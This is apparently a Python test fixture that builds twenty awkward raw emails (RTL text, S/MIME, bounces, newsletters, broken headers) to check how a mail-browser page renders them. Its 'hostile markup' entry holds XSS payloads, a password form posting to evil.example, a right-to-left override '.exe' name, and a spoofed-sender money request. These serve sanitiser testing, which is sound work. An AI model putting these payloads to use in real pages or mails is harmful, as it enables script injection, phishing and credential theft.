"""Twenty mails that a page can easily draw badly, to be drawn and looked at (tests/app/test_mail_browser.py)."""

from __future__ import annotations

import base64
import io

from PIL import Image, ImageDraw

from tests.payloads.gmail.mails import multipart

SAM = "From: Sam Citizen <sam@example.com>\r\nTo: Sales <help@example.com>\r\n"
OURS = "From: Help <help@example.com>\r\nTo: Sam <sam@example.com>"
LONG = "a-very-long-local-part-that-some-system-made-up-" * 3
WORDS = (
    "The bike is ready, and the second one follows when its wheel has arrived from the workshop. "
)


def picture(width: int, height: int, colour: str) -> bytes:
    drawn = Image.new("RGB", (width, height), colour)
    ImageDraw.Draw(drawn).rectangle((4, 4, width - 5, height - 5), outline="white", width=3)
    made = io.BytesIO()
    drawn.save(made, "PNG")
    return made.getvalue()


def png(content_id: str, name: str, content: bytes, disposition: str = "inline") -> bytes:
    head = (
        f'Content-Type: image/png; name="{name}"\r\nContent-ID: <{content_id}>\r\nContent-Transfer-Encoding: base64\r\n'
        f'Content-Disposition: {disposition}; filename="{name}"\r\n\r\n'
    )
    return head.encode() + base64.encodebytes(content)


def html(markup: str) -> bytes:
    return f"Content-Type: text/html; charset=utf-8\r\n\r\n{markup}".encode()


def plain(text: str) -> bytes:
    return f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}".encode()


INVITATION = (
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@example.com\r\nSUMMARY:Fitting of the blue bike\r\n"
    "DTSTART;TZID=Australia/Sydney:20260803T100000\r\nDTEND;TZID=Australia/Sydney:20260803T110000\r\n"
    "LOCATION:12 Shop Street\\, Newtown\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
INNER = (
    "From: Kim Other <kim@example.org>\r\nTo: Sam <sam@example.com>\r\nDate: Mon, 3 Aug 2026 10:00:00 +1000\r\n"
    "Subject: Invoice 1001: was it paid?\r\n\r\nDear Sam,\r\n\r\nplease see the attached invoice.\r\n\r\nKim\r\n"
)
REPORT = (
    "Reporting-MTA: dns; mx.example.net\r\n\r\nFinal-Recipient: rfc822; bob@example.net\r\nAction: failed\r\nStatus: 5.1.1\r\n"
    "Diagnostic-Code: smtp; 550 5.1.1 The email account that you tried to reach does not exist\r\n\r\n"
    "Final-Recipient: rfc822; lee@example.net\r\nAction: delayed\r\nStatus: 4.4.1\r\n"
)
NEWSLETTER = (
    "<html><head><title>x</title><style>p{color:red}</style></head><body><table><tr><td><img src='cid:logo@x' width='600'></td></tr>"
    "<tr><td><h1>August offers</h1><p>Dear Sam,</p><p>&nbsp;</p><p>&nbsp;</p><p>our helmets are "
    "<a href='https://shop.example.com/helmets?utm_source=mail&utm_campaign=august&id=0123456789abcdef0123456789abcdef'>half the price</a>.</p>"
    "<ul><li>red</li><li>blue</li></ul><p><a href='https://shop.example.com/'>https://shop.example.com/</a></p></td></tr>"
    "<tr><td><small>You get this because … <a href='https://shop.example.com/leave'>leave</a></small></td></tr></table></body></html>"
)
HOSTILE = (
    "<p>Pay here: <a href='javascript:alert(1)'>bank.example</a>, or <a href='https://evil.example/login'>https://bank.example/login</a></p>"
    "<script>document.title='hurt'</script><img src=x onerror='window.hurt=1'><iframe src='https://evil.example'></iframe>"
    "<style>*{display:none !important}</style></div></article><form action='https://evil.example'><input name=password></form>"
    "<p style='position:fixed;inset:0;background:red'>over everything</p>"
)

#: Name, bytes, whether it is one of ours.
AWKWARD: list[tuple[str, bytes, bool]] = [
    (
        "right to left",
        f"{SAM}Subject: =?utf-8?b?{base64.b64encode('السؤال عن الطلب 1001'.encode()).decode()}?=\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "السلام عليكم،\r\n\r\nأين طلبي رقم 1001 (bike XL-7)؟ الرابط https://example.com/orders/1001\r\n\r\nThank you!\r\nשלום, תודה\r\n".encode(),
        False,
    ),
    ("hostile markup", f"{SAM}Subject: <script>alert(1)</script> \u202egpj.exe\r\n".encode() + html(HOSTILE), False),
    (
        "long addresses",
        f"From: {'Very Long Name ' * 12}<{LONG}@{'sub.' * 12}example.com>\r\nTo: {LONG}one@example.org, help@example.com,\r\n"
        f" {', '.join(f'person{n}@example.org' for n in range(9))}\r\nCc: {LONG}two@example.org, Kim <kim@example.org>\r\n"
        f"Reply-To: {LONG}three@example.org\r\nSubject: {'Subject-without-a-blank-' * 8}\r\n\r\n{'x' * 400}\r\n".encode(),
        False,
    ),
    (
        "winmail.dat",
        multipart("mixed", plain("See the attached."), "Content-Type: application/ms-tnef; name=\"winmail.dat\"\r\n"
        "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"winmail.dat\"\r\n\r\neJ8+IgAA", head=f"{SAM}Subject: From Outlook\r\n"),
        False,
    ),
    (
        "S/MIME, enveloped",
        f'{SAM}Subject: Confidential\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
        "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"smime.p7m\"\r\n\r\nMIIBhgYJKoZIhvcNAQcDoIIBdzCC\r\n".encode(),
        False,
    ),
    (
        "S/MIME, signed",
        multipart("signed", plain("Signed words."), "Content-Type: application/pkcs7-signature; name=\"smime.p7s\"\r\n"
        "Content-Disposition: attachment; filename=\"smime.p7s\"\r\nContent-Transfer-Encoding: base64\r\n\r\nMIIBhgYJKoZIhvcNAQcC", head=f"{SAM}Subject: Signed\r\n"),
        False,
    ),
    (
        "an invitation",
        multipart("mixed", multipart("alternative", plain("You are invited."), html("<p>You are <b>invited</b>.</p>"),
        f"Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n{INVITATION}", boundary="in", head=""),
        f"Content-Type: application/ics; name=\"invite.ics\"\r\nContent-Disposition: attachment; filename=\"invite.ics\"\r\n\r\n{INVITATION}",
        head=f"{SAM}Subject: Fitting\r\n"),
        False,
    ),
    (
        "an attached mail",
        multipart("mixed", plain("Can you look at this one?"), f"Content-Type: message/rfc822\r\n\r\n{INNER}", head=f"{SAM}Subject: Fwd\r\n"),
        False,
    ),
    (
        "a bounce",
        multipart("report", plain("I could not deliver your mail."), f"Content-Type: message/delivery-status\r\n\r\n{REPORT}",
        "Content-Type: text/rfc822-headers\r\n\r\nMessage-ID: <sent-1@example.com>\r\nSubject: Your order\r\n",
        head="From: Mail Delivery System <mailer-daemon@example.net>\r\nTo: help@example.com\r\nReturn-Path: <>\r\nAuto-Submitted: auto-replied\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\n", more="; report-type=delivery-status"),
        False,
    ),
    (
        "ours, one of several not reached",
        f"{OURS}, Bob <bob@example.net>, lee@example.net\r\nCc: kim@example.org\r\nMessage-ID: <sent-1@example.com>\r\n"
        "Subject: Your order\r\n\r\nDear all,\r\n\r\nyour order is on its way.\r\n".encode(),
        True,
    ),
    (
        "pictures in place",
        multipart("related", html(f"<p>Look at the wheel:</p><img src='cid:wheel@x'><p>and at the whole bike:</p><img src='cid:bike@x' width='2000'><p>{WORDS}</p>"),
        png("wheel@x", "wheel.png", picture(60, 40, "teal")), png("bike@x", "bike.png", picture(2400, 1200, "navy")), head=f"{SAM}Subject: Photos\r\n"),
        False,
    ),
    (
        "pictures as files",
        multipart("mixed", plain("Three photos."), *(png(f"f{n}", f"photo {n} with a long name {'x' * 60}.png", picture(300 * n, 200, "purple"), "attachment") for n in (1, 2, 3)),
        head=f"{SAM}Subject: Photos\r\n"),
        False,
    ),
    (
        "a newsletter",
        multipart("related", html(NEWSLETTER), png("logo@x", "logo.png", picture(600, 90, "green")),
        head="From: Shop <sam@example.com>\r\nTo: help@example.com\r\nList-Id: Offers <offers.example.com>\r\nSubject: August offers\r\n"),
        False,
    ),
    (
        "an answer with a quotation",
        f"{SAM}Subject: Re: Your order\r\n\r\nYes, please.\r\n\r\n-- \r\nSam Citizen\r\n0491 570 006\r\n\r\nOn Mon, 3 Aug 2026 at 10:00, Help <help@example.com> wrote:\r\n"
        "> Shall we send it?\r\n>> Is it ready?\r\n".encode(),
        False,
    ),
    ("a long text", f"{SAM}Subject: The whole story\r\n\r\n".encode() + "".join(f"{n}. {WORDS}\r\n\r\n" for n in range(1, 41)).encode(), False),
    (
        "many blank lines",
        f"{SAM}Subject: Blanks\r\n".encode() + html("<div>one</div><div><br></div><div><br></div><div><br></div><div>two</div><p>&nbsp;</p><p>&nbsp;</p><p>three</p>" + "<br>" * 30 + "four"),
        False,
    ),
    ("a name that lies", b"From: \"alice@customer.test\" <sam@example.com>\r\nTo: help@example.com\r\nSubject: It is me, Alice\r\n\r\nSend the money to this account.\r\n", False),
    (
        "a broken header",
        b"From: Sam <sam@example.com>\r\nthis line is no field\r\nTo: help@example.com\r\nSubject: =?utf-8?b?V2hlcmU=?= is =?no-such?q?it=3F?=\r\n"
        b"Content-Type: text/plain; charset=utf-8\r\n\r\nGr\xc3\xbc\xc3\x9fe aus Z\xfcrich, \xf0\x9f\x9a\xb2\r\n",
        False,
    ),
    (
        "an automatic answer",
        f"{SAM}Auto-Submitted: auto-replied\r\nIn-Reply-To: <sent-1@example.com>\r\nSubject: Out of office\r\n\r\nI am away until Monday.\r\n".encode(),
        False,
    ),
    (
        "a table and a rule",
        f"{SAM}Subject: Order 1001\r\n".encode() + html("<p>Dear shop,</p><table border=1><tr><th>Item</th><th>Count</th><th>Price</th></tr><tr><td>Bike</td><td>1</td><td>$900</td></tr>"
        "<tr><td>Helmet</td><td>2</td><td>$80</td></tr></table><hr><blockquote>as agreed on the phone</blockquote><p>Sam</p>"),
        False,
    ),
]  # fmt: skip
